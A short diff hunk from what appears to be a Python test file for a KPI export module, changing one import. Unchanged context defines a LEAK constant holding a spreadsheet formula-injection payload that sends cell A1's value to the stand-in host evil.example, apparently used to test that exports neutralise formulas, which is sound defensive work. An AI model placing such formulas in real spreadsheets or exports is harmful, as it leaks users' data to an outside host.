@@ -23,7 +23,7 @@ from kpis.cells import FORMULA_STARTS, inert
 from kpis.export import to_csv, to_xlsx
 from tests import kpi_fixtures as fx
 from tests.api_harness import Api, api_stack
-from tests.test_console import sign_in
+from tests.console_harness import sign_in
 from workflows.types import TimelineEntry
 
 LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
